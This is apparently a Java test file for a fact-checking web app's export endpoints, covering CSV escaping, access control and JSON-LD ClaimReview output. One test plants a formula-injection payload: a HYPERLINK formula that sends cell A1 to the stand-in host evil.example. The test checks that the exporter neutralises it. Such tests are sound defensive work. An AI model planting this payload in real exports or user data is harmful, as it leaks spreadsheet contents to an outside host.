package org.factdesk.web.api;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.factdesk.web.support.Desk.EDNA;
import static org.factdesk.web.support.Desk.RITA;

import io.quarkus.test.junit.QuarkusTest;
import io.restassured.path.json.JsonPath;
import java.io.IOException;
import java.io.StringReader;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.factdesk.web.support.Desk;
import org.junit.jupiter.api.Test;

@QuarkusTest
class ExportsTest {

    @Test
    void theCsvHasEveryClaimOnceWithItsPublishedRating() throws IOException {
        long tricky = Desk.submit(EDNA, Desk.uniqueText("A claim with \"quotes\", commas,\nand a new line"), "CSV Claimant")
                .jsonPath().getLong("id");
        long total = Desk.as(EDNA).queryParam("limit", 200).get(Desk.CLAIMS).jsonPath().getList("items").size();

        String csv = Desk.as(EDNA).accept("text/csv").get("/api/v1/exports/claims.csv")
                .then().statusCode(200).extract().asString();

        List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(csv)).getRecords();
        assertThat(rows.stream().map(r -> r.get("id")).distinct().count()).isEqualTo(rows.size());
        assertThat(rows.size()).isGreaterThanOrEqualTo((int) Math.min(total, 200));
        CSVRecord mine = rows.stream().filter(r -> r.get("id").equals(Long.toString(tricky))).findFirst().orElseThrow();
        assertThat(mine.get("text")).contains("\"quotes\", commas,\nand a new line");
        assertThat(rows).anySatisfy(r -> assertThat(r.get("rating")).isEqualTo("Mostly true"));
    }

    @Test
    void textThatWouldStartASpreadsheetFormulaReachesTheCsvAsPlainText() throws IOException {
        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\") " + Desk.uniqueText("formula");
        long planted = Desk.submit(EDNA, formula, "@SUM(1+1)").jsonPath().getLong("id");
        long negative = Desk.submit(EDNA, "-5% " + Desk.uniqueText("growth, said the minister"), "+Minister").jsonPath().getLong("id");

        List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(Desk.as(EDNA).accept("text/csv").get("/api/v1/exports/claims.csv").asString()))
                .getRecords();

        CSVRecord first = rows.stream().filter(r -> r.get("id").equals(Long.toString(planted))).findFirst().orElseThrow();
        assertThat(first.get("text")).isEqualTo("'" + formula);
        assertThat(first.get("claimant")).isEqualTo("'@SUM(1+1)");
        CSVRecord second = rows.stream().filter(r -> r.get("id").equals(Long.toString(negative))).findFirst().orElseThrow();
        assertThat(second.get("text")).startsWith("'-5% growth");
        assertThat(second.get("claimant")).isEqualTo("'+Minister");
        assertThat(second.get("id")).isEqualTo(Long.toString(negative));
    }

    @Test
    void aSpreadsheetFormulaStartIsNeutralisedWhateverItsFirstCharacter() {
        for (String start : List.of("=", "+", "-", "@", "\t", "\r")) {
            assertThat(ExportsResource.asText(start + "1+1")).isEqualTo("'" + start + "1+1");
        }
        assertThat(ExportsResource.asText("A claim that says = nothing")).isEqualTo("A claim that says = nothing");
        assertThat(ExportsResource.asText("")).isEmpty();
    }

    @Test
    void reviewersCannotExportTheDesk() {
        Desk.as(RITA).accept("text/csv").get("/api/v1/exports/claims.csv").then().statusCode(403);
    }

    @Test
    void theJsonLdDumpHoldsEveryPublishedFactCheckAsClaimReview() {
        JsonPath dump = given().accept("application/ld+json").get("/api/v1/exports/fact-checks.jsonld")
                .then().statusCode(200).extract().jsonPath();

        assertThat(dump.getString("'@context'")).isEqualTo("https://schema.org");
        // An import keeps its publisher's own @type, which may be an array: ["ClaimReview"].
        List<Object> types = dump.getList("'@graph'.'@type'");
        assertThat(types).isNotEmpty().allMatch(type -> type.equals("ClaimReview")
                || type instanceof List<?> list && list.contains("ClaimReview"), "ClaimReview, alone or in an array");
    }
}
